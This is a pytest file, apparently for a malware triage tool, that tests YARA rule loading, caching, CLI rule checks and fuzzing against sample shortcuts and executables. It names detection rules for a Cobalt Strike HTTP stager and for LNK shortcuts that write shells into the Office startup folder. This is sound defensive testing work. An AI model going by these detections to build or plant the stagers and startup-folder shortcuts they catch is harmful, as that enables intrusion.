    write(pack, "index.yar", '// pack index\ninclude "./rules/good.yar"\ninclude "./rules/bad.yar"\n')
    write(pack, "rules/good.yar", 'rule good_one { strings: $a = "needle" condition: $a }\n')
    write(pack, "rules/bad.yar", "rule bad_one { condition: $missing }\n")
    ruleset = rules.load_rules([pack])
    assert "good_one" in {info.name for info in ruleset.infos}
    assert [Path(p.source).name for p in ruleset.problems] == ["bad.yar"]
    assert not any("index.yar" in source for source in ruleset.sources.values())


def test_bartblaze_lnk_rules_on_the_corpus_shortcuts(corpus: Path) -> None:
    ruleset = rules.load_rules([corpus / "bartblaze-yara"])
    assert ruleset.problems == ()
    expected = {
        "decoding_error2": {"Script_in_LNK", "Execution_in_LNK"},
        "invalid_date2": {"Script_in_LNK", "Execution_in_LNK"},
        "unknown_block": {"Script_in_LNK", "Execution_in_LNK"},
        "padded_cli_arguments": {"Archive_in_LNK", "Execution_in_LNK"},
        "sample13": {"Execution_in_LNK"},
        "decoding_error3": {"Script_in_LNK"},
        "broken_link_info": {"Long_RelativePath_LNK"},
        "decoding_error4": {"Long_RelativePath_LNK"},
        "sample7": {"Long_RelativePath_LNK"},
        "network_info": {"PDF_in_LNK"},
    }
    seen = {}
    for path in sorted((corpus / "lnkparse3/samples").iterdir()):
        found = ruleset.match(Blob.of(base64.b64decode(path.read_bytes())), {}, 10).matches
        if hits := {m.rule for m in found if m.namespace.startswith("bartblaze-yara:")}:
            seen[path.name] = hits
    assert seen == expected


def test_golang_pack_on_go_and_other_pes(corpus: Path) -> None:
    ruleset = rules.load_rules([corpus / "yara-rules"], builtin=False)
    go_pes = [*sorted((corpus / "goretk-testdata").iterdir()), corpus / "goresym/testproject/testproject.exe"]
    others = [
        corpus / "yara/tests/data/tiny",
        corpus / "yara/tests/data/mtxex.dll",
        corpus / "strelka/fixtures/test_upx.exe",
    ]
    for path in go_pes:
        assert "go_language_pe" in {m.rule for m in ruleset.match(Blob(path=path), {}, 10).matches}, path.name
    for path in others:
        assert ruleset.match(Blob(path=path), {}, 10).matches == [], path.name


# --- compile cache ----------------------------------------------------------------------------


def test_compiled_rules_are_cached_on_disk(
    fresh_cache: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pack = tmp_path / "pack"
    rule_file = write(pack, "a.yar", 'rule first { strings: $a = "needle" condition: $a }\n')
    cold = rules.load_rules([pack])
    assert not cold.from_cache
    assert rules.load_rules([pack]) is cold  # same process: compiled once
    stored = sorted(p.name for p in fresh_cache.iterdir())
    assert stored == [f"{cold.key}.json", f"{cold.key}.yarc"]  # no temp file left behind

    rules.clear_memory_cache()
    warm = rules.load_rules([pack])
    assert warm.from_cache and warm.key == cold.key
    assert [i.name for i in warm.infos] == [i.name for i in cold.infos]
    assert scan(b"a needle", ruleset=warm) == {"first"}

    rule_file.write_text('rule second { strings: $a = "pin" condition: $a }\n', "utf-8")
    changed = rules.load_rules([pack])  # same process, edited pack: the stat fingerprint notices
    assert changed.key != cold.key and not changed.from_cache
    assert scan(b"a pin", ruleset=changed) == {"second"}

    rules.clear_memory_cache()
    monkeypatch.setattr(yara, "__version__", "0.0-other")
    assert rules.load_rules([pack]).key != changed.key  # another YARA: another key


def test_damaged_cache_entry_is_rebuilt(fresh_cache: Path) -> None:
    first = rules.load_rules()
    (fresh_cache / f"{first.key}.yarc").write_bytes(b"not compiled rules")
    rules.clear_memory_cache()
    again = rules.load_rules()
    assert not again.from_cache and again.rules is not None
    assert scan(stager_x86(), ruleset=again) == {"RestyLink_CobaltStrike_HTTP_Stager_Shellcode"}


def test_unwritable_cache_only_costs_time(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("a file where the cache folder should be")
    monkeypatch.setenv("RESTYTRIAGE_CACHE_DIR", str(blocker))
    rules.clear_memory_cache()
    try:
        assert rules.load_rules().rules is not None
    finally:
        rules.clear_memory_cache()


# --- commands ---------------------------------------------------------------------------------


def test_rules_list_and_check_commands(tmp_path: Path) -> None:
    from restytriage.cli import app

    runner = CliRunner()
    listed = runner.invoke(app, ["rules", "list"], env={"COLUMNS": "200"})
    assert listed.exit_code == 0
    assert (
        "RestyLink_LNK_Shell_Writes_Office_Startup  score 85  T1059.003 T1137.001 T1204.002" in listed.output
    )
    assert runner.invoke(app, ["rules", "check"]).exit_code == 0

    pack = tmp_path / "pack"
    write(pack, "oops.yar", 'rule fine { condition: true }\nrule oops { strings: $a = "x" condition: $b }\n')
    checked = runner.invoke(app, ["rules", "check", "--rules", str(pack)], env={"COLUMNS": "200"})
    assert checked.exit_code == 1
    assert f'skipped {pack / "oops.yar"}(2): undefined string "$b" [syntax]' in checked.output


# --- robustness -------------------------------------------------------------------------------


@settings(max_examples=40, deadline=2000, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=4096), st.sampled_from(["x.lnk", "x.dot", "x.zip", "x.dll", "x"]))
def test_random_bytes_never_break_the_yara_analyzer(data: bytes, name: str) -> None:
    report = triage_bytes(data, name)
    assert not any(error.analyzer == "yara" for node in walk(report.root) for error in node.errors)


@settings(max_examples=25, deadline=2000, suppress_health_check=[HealthCheck.too_slow])
@given(st.integers(0, 4000), st.binary(min_size=1, max_size=16))
def test_mutated_shortcuts_never_break_the_yara_analyzer(offset: int, patch: bytes) -> None:
    base = bytearray(lnk(STARTUP_DROP, appended=MINIMAL_PDF))
    offset %= len(base)
    base[offset : offset + len(patch)] = patch
    report = triage_bytes(bytes(base), "Invoice.pdf.lnk")
    assert not any(error.analyzer == "yara" for node in walk(report.root) for error in node.errors)
